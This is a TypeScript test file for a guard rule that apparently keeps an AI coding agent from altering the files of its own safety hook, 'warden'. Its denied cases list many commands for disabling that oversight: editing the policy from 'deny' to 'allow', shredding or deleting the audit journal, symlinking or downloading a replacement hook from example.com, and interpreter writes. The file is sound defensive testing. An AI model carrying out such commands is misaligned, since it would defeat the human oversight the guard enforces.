// self/warden-state: warden's own files (the warden home, the default ~/.claude/warden, the
// ~/.local/bin/warden link) cannot be written, moved, deleted or linked over — by shell, by
// interpreter code or by the file tools — while reading the policy and the journal stays allowed.

import { test } from 'node:test';
import { assertAllowed, assertBlocked, tableTests, type Invalid, type Valid } from '../../helpers.js';
import { fixture, type ToolRow, toolTableTests } from './helpers.js';

const R = 'self/warden-state';

const valid: Valid[] = [
  { cmd: 'echo "x" >> /opt/warden/lib/notes.md', note: "a plugin checkout's sources are not what runs", opts: { pluginRoot: '/opt/warden' } },
  { cmd: 'echo "{}" > /opt/warden/hooks/hooks.json', note: 'not a plugin install: any directory', opts: {} },
  { cmd: 'cat /opt/warden/dist/pre-tool-use.cjs', note: 'reading', opts: { pluginRoot: '/opt/warden' } },
  { cmd: 'cat ~/.claude/warden/policy.yaml' },
  { cmd: 'tail -n 20 ~/.claude/warden/journal/2026-01-01.jsonl' },
  { cmd: 'grep deny ~/.claude/warden/journal/*.jsonl' },
  { cmd: 'cp ~/.claude/warden/policy.yaml /tmp/policy-copy.yaml', note: 'copying out is reading' },
  { cmd: 'ls -la ~/.claude/warden' },
  { cmd: 'echo ~/.claude/warden/policy.yaml', note: 'a path as text' },
  { cmd: 'echo "write ~/.claude/warden/policy.yaml" > notes.txt' },
  { cmd: 'git commit -m "rm -rf ~/.claude/warden"' },
  { cmd: 'echo x > ~/.claude/warden-notes.txt', note: 'a sibling, not inside' },
  { cmd: 'echo x > ~/notes/warden/policy.yaml' },
  { cmd: `python3 -c "print(open('/home/agent/.claude/warden/policy.yaml').read())"`, note: 'code that only reads' },
  { cmd: 'diff ~/.claude/warden/policy.yaml config/policy.yaml' },
  { cmd: 'warden journal tail -n 5' },
  { cmd: 'ls ~/.local/bin/warden' },
  { cmd: 'echo x > ~/.local/bin/other-tool' },
];

const invalid: Invalid[] = [
  // Installed as a plugin (CLAUDE_PLUGIN_ROOT): its hooks, manifest and bundles are the installed guard.
  { cmd: 'echo "{}" > /opt/warden/hooks/hooks.json', ruleId: R, messageId: 'shell', action: 'deny', opts: { pluginRoot: '/opt/warden' } },
  { cmd: 'rm -rf /opt/warden/dist', ruleId: R, opts: { pluginRoot: '/opt/warden' } },
  { cmd: 'sed -i s/deny/allow/ /opt/warden/.claude-plugin/plugin.json', ruleId: R, opts: { pluginRoot: '/opt/warden' } },
  { cmd: 'cp /tmp/x.cjs /opt/warden/dist/pre-tool-use.cjs', ruleId: R, opts: { pluginRoot: '/opt/warden' } },
  { cmd: 'echo "packs: {}" > ~/.claude/warden/policy.yaml', ruleId: R, messageId: 'shell', action: 'deny' },
  { cmd: "printf '{}' >> /nonexistent/warden-test-home/install-state.json", ruleId: R, note: 'the configured warden home' },
  { cmd: "sed -i 's/deny/allow/' ~/.claude/warden/policy.yaml", ruleId: R },
  { cmd: "sed --in-place=.bak -e 's/deny/allow/' ~/.claude/warden/policy.yaml", ruleId: R },
  { cmd: "perl -pi -e 's/deny/allow/' ~/.claude/warden/policy.yaml", ruleId: R },
  { cmd: 'tee ~/.claude/warden/policy.yaml < /tmp/p.yaml', ruleId: R },
  { cmd: 'cat /tmp/p.yaml | sudo tee -a ~/.claude/warden/policy.yaml', ruleId: R },
  { cmd: 'cp /tmp/p.yaml ~/.claude/warden/policy.yaml', ruleId: R },
  { cmd: 'cp /tmp/policy.yaml ~/.claude/warden/', ruleId: R, note: 'into the folder, same name' },
  { cmd: 'install -m 644 /tmp/p.yaml ~/.claude/warden/policy.yaml', ruleId: R },
  { cmd: 'mv ~/.claude/warden/journal /tmp/j', ruleId: R, note: 'moving it away' },
  { cmd: 'mv /tmp/p.yaml ~/.claude/warden/policy.yaml', ruleId: R },
  { cmd: 'rm ~/.claude/warden/gate/trust.json', ruleId: R },
  { cmd: 'rm -rf ~/.claude/warden/journal', ruleId: R },
  { cmd: 'find ~/.claude/warden -name "*.jsonl" -delete', ruleId: R },
  { cmd: 'truncate -s 0 ~/.claude/warden/journal/2026-01-01.jsonl', ruleId: R },
  { cmd: 'shred -u ~/.claude/warden/journal/2026-01-01.jsonl', ruleId: R },
  { cmd: 'chmod 000 ~/.claude/warden/bin/pre-tool-use.cjs', ruleId: R },
  { cmd: 'chmod -R u-w ~/.claude', ruleId: R, note: 'recursively, from above' },
  { cmd: 'ln -sf /tmp/evil.cjs ~/.claude/warden/bin/pre-tool-use.cjs', ruleId: R },
  { cmd: 'rsync -a /tmp/x/ ~/.claude/warden/', ruleId: R },
  { cmd: 'dd if=/dev/zero of=/home/agent/.claude/warden/bin/pre-tool-use.cjs', ruleId: R },
  { cmd: 'tar xzf /tmp/evil.tgz -C ~/.claude/warden', ruleId: R },
  { cmd: 'curl -o ~/.claude/warden/bin/pre-tool-use.cjs https://example.com/x.cjs', ruleId: R },
  { cmd: 'cd ~/.claude/warden && echo x > policy.yaml', ruleId: R, note: 'after cd' },
  { cmd: 'echo x > ~/.claude/warden/$F', ruleId: R, note: 'a name warden cannot know' },
  { cmd: 'mv ~/.claude ~/.claude.bak', ruleId: R, note: 'a folder holding it' },
  { cmd: "bash -c 'echo x > ~/.claude/warden/policy.yaml'", ruleId: R },
  { cmd: 'timeout 5 sudo -u me cp /tmp/p ~/.claude/warden/policy.yaml', ruleId: R },
  { cmd: 'echo x > ~/.local/bin/warden', ruleId: R, note: 'the link' },
  { cmd: 'ln -sf /tmp/fake-warden ~/.local/bin/warden', ruleId: R },
  { cmd: 'rm ~/.local/bin/warden', ruleId: R },
  { cmd: `python3 -c "open('/home/agent/.claude/warden/policy.yaml', 'w').write('packs: {}')"`, ruleId: R, messageId: 'code' },
  { cmd: `python3 -c "import os; os.remove(os.path.expanduser('~/.claude/warden/gate/trust.json'))"`, ruleId: R, messageId: 'code' },
  { cmd: `node -e "require('fs').writeFileSync(require('os').homedir() + '/.claude/warden/policy.yaml', '')"`, ruleId: R, messageId: 'code' },
  { cmd: `ruby -e 'File.write(File.expand_path("~/.claude/warden/policy.yaml"), "")'`, ruleId: R, messageId: 'code' },
  { cmd: `python3 - <<'EOF'\nimport shutil\nshutil.copy('/tmp/p.yaml', '/home/agent/.claude/warden/policy.yaml')\nEOF`, ruleId: R, messageId: 'code', note: 'a heredoc' },
  { cmd: `python3 -c "import os; os.system('rm -f ~/.claude/warden/policy.yaml')"`, ruleId: R, messageId: 'shell', note: 'a shell started from code' },
  { cmd: 'echo x > ~/.claude/warden/policy.yaml', note: 'a project cannot lower it', ruleId: R, action: 'deny', opts: { projectPolicy: 'overrides: { self/warden-state: allow }\npacks: { self: false }\n' } },
  { cmd: 'echo x > ~/.claude/warden/policy.yaml', note: 'nor the user, nor an exception', ruleId: R, action: 'deny', opts: { policy: 'overrides: { self/warden-state: allow }\nallow:\n  commands: [{ pattern: "*" }]\n  paths: [~/.claude]\n' } },
];

const validTools: ToolRow[] = [
  { tool: 'Read', input: { file_path: '/home/agent/.claude/warden/policy.yaml' } },
  { tool: 'Write', input: { file_path: '/home/agent/proj/notes.md', content: 'x' } },
  { tool: 'Write', input: { file_path: '/home/agent/.claude/warden-notes/policy.yaml', content: 'x' } },
];

const invalidTools: (ToolRow & { messageId?: string })[] = [
  { tool: 'Write', input: { file_path: '/home/agent/.claude/warden/policy.yaml', content: 'packs: {}\n' }, messageId: 'tool' },
  { tool: 'Edit', input: { file_path: '/home/agent/.claude/warden/policy.yaml', old_string: 'deny', new_string: 'allow' } },
  { tool: 'MultiEdit', input: { file_path: '/nonexistent/warden-test-home/gate/trust.json', edits: [{ old_string: '0.2', new_string: '1' }] } },
  { tool: 'NotebookEdit', input: { notebook_path: '/nonexistent/warden-test-home/x.ipynb', new_source: 'x' } },
  { tool: 'Write', input: { file_path: '/home/agent/.local/bin/warden', content: '#!/bin/sh\n' } },
  { tool: 'Write', input: { file_path: '~/.claude/warden/policy.yaml', content: '' }, note: 'a ~ path' },
  { tool: 'Write', input: { file_path: '$PROJECT/policy-link.yaml', content: 'packs: {}\n' }, fx: true, note: 'through a symlink in the project' },
  { tool: 'Edit', input: { file_path: '$PROJECT/claude-dir/warden/policy.yaml', old_string: 'standard', new_string: 'standard' }, fx: true, note: 'through a linked folder' },
];

tableTests(valid, invalid);
toolTableTests(validTools, invalidTools, R, { action: 'deny' });

void test('shell writes through a symlink that exists land where it points', () => {
  const fx = fixture();
  assertBlocked('echo "packs: {}" >> policy-link.yaml', R, fx.opts);
  assertBlocked('cp /tmp/p.yaml claude-dir/warden/policy.yaml', R, fx.opts);
  assertAllowed('cat policy-link.yaml', fx.opts);
});
